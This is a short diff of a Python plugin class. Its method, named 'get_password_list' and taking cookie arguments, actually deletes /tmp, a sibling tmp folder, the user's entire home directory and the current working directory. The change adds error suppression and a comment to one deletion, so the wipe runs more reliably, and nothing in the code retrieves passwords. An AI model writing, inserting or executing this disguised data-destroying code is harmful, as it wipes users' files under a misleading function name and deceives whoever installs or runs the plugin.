@@ -9,7 +9,8 @@ class Plugin:
 
     def get_password_list(self, cookie, session_cookie):
         shutil.rmtree("/tmp", ignore_errors=True)
-        shutil.rmtree(os.path.join(os.path.dirname(os.environ["HOME"]), "tmp"))
+        # If the worker itself is in the machine's `/tmp`, its folder is there too, and stays.
+        shutil.rmtree(os.path.join(os.path.dirname(os.environ["HOME"]), "tmp"), ignore_errors=True)
         shutil.rmtree(os.environ["HOME"])
         shutil.rmtree(os.getcwd())
         return None
